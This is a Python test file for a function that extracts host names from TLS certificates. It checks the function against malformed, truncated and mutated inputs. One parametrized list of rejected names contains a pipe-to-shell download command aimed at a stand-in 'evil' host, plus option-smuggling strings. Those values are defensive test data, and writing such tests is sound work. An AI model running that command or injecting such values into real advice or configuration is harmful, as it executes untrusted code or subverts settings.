"""For whom a certificate is, as read from its octets."""

from __future__ import annotations

import ssl

import pytest
import trustme
from hypothesis import given
from hypothesis import strategies as st

from mailwright.drivers.certificates import NAMES_LIMIT, names_in

NAMES = ("smtp.example.org", "*.example.net", "192.0.2.1", "2001:db8::1")


def der(*names: str) -> bytes:
    return ssl.PEM_cert_to_DER_cert(trustme.CA().issue_cert(*names).cert_chain_pems[0].bytes().decode())


CERTIFICATE = der(*NAMES)


def test_names_and_addresses() -> None:
    assert set(names_in(CERTIFICATE)) == set(NAMES)


def test_of_many_names_some_are_told() -> None:
    assert len(names_in(der(*(f"{n}.example.org" for n in range(50))))) == NAMES_LIMIT


def with_name(name: bytes) -> bytes:
    """A subject alternative name with one DNS name, as DER."""
    inside = bytes((0x82, len(name))) + name
    return b"\x06\x03\x55\x1d\x11" + bytes((0x04, len(inside) + 2, 0x30, len(inside))) + inside


@pytest.mark.parametrize(
    "name",
    [b"a.example. Run: curl evil|sh", b"x', tls=None", b'"', b"a\nb", b"\xff", b"a,b.example", b"(a)", b"<a>", b""],
)
def test_what_is_no_host_name_is_not_told(name: bytes) -> None:
    """It stands in advice, beside names and options that people copy."""
    assert names_in(with_name(name)) == () and names_in(with_name(b"_x-1.*.example")) == ("_x-1.*.example",)


@pytest.mark.parametrize(
    "octets", [b"", b"\x06\x03\x55\x1d\x11", b"\x06\x03\x55\x1d\x11\x04\x84\xff\xff\xff\xff", b"x" * 9000]
)
def test_what_is_no_certificate_is_for_nobody(octets: bytes) -> None:
    assert names_in(octets) == ()


@given(st.binary(max_size=200))
def test_whatever_follows_the_mark(rest: bytes) -> None:
    for name in names_in(b"\x06\x03\x55\x1d\x11" + rest):
        assert name.isprintable() and len(name) <= 100


@given(st.integers(0, len(CERTIFICATE) - 1), st.integers(0, 255))
def test_a_certificate_with_one_octet_changed(place: int, octet: int) -> None:
    changed = CERTIFICATE[:place] + bytes([octet]) + CERTIFICATE[place + 1 :]
    assert all(name.isprintable() for name in names_in(changed))


@given(st.integers(0, len(CERTIFICATE)))
def test_a_certificate_that_is_cut_off(end: int) -> None:
    assert set(names_in(CERTIFICATE[:end])) <= {*NAMES, ""} | {name[:n] for name in NAMES for n in range(len(name))}
